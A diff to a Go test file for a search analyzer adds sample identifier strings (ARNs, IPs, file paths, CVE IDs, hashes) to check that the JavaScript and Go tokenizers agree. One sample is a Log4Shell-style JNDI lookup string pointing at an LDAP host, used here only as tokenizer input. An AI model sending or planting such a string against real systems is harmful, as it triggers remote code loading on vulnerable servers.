@@ -44,6 +44,19 @@ homologous effective bowdlerize probate rate cease controll roll generalization 
 yy y by say sayings enjoying eed ied ies sses ss s ing ed ying xyz ay aying logi analogi bli ably
 x509 2023 0x4be1 acme.com t1566.001 naïve café résumé straße`)
 
+// identifierTexts hold identifiers of each kind the analyzer indexes
+// whole and by parts (search.English), for TestJSAnalysisAgreesWithGo.
+var identifierTexts = []string{
+	"probe ${jndi:ldap://198.51.100.23:1389/a} from 203.0.113.7, see https://status.acme.com/incidents/42?x=1.",
+	"mail oncall@example.org; arn:aws:s3:::bucket-name/key and arn:aws:iam::123456789012:role/Deploy_Role",
+	"denied s3:GetObject, s3:PutObject; IPv6 2001:db8::1 and fe80::1%eth0; CIDR 10.0.0.0/8 192.168.1.0/24",
+	"db-1.internal:5432 /var/log/nginx/access.log C:\\Windows\\System32 ./run.sh ../etc/x.conf",
+	"CVE-2021-44228 SEC-1030 INC-2024-0117 T1566.001 sha256:9f86d081884c7d65 d41d8cd98f00b204e9800998ecf8427e",
+	"snake_case kebab-case XMLHttpRequest getObjects HTTPServer2Go the-end a.b.c. -flag --x .acme.com. _x_",
+	"café.acme.com naïve-host.example straße:80 sub.example.jp ok.\u00e9t\u00e9 \u00c9Tat-Major",
+	strings.Repeat("a.", 200) + "com " + strings.Repeat("x-", 100) + "y " + strings.Repeat("Ab", 80),
+}
+
 func TestJSAnalysisAgreesWithGo(t *testing.T) {
 	node, err := exec.LookPath("node")
 	if err != nil {
@@ -52,6 +65,11 @@ func TestJSAnalysisAgreesWithGo(t *testing.T) {
 	docs := loadDocs(t, filepath.Join("..", "testdata", "kb"), false)
 	if _, err := os.Stat(filepath.Join("..", "..", "content", "postmortems")); err == nil {
 		docs = append(docs, loadDocs(t, filepath.Join("..", ".."), false)...)
+	}
+	// Pasted logs and identifiers (compound tokens).
+	docs = append(docs, loadDocs(t, filepath.Join("..", "..", "site", "testdata", "realworld"), false)...)
+	for _, text := range identifierTexts {
+		docs = append(docs, search.Doc{Body: text})
 	}
 	a, err := search.NewAnalyzer()
 	if err != nil {
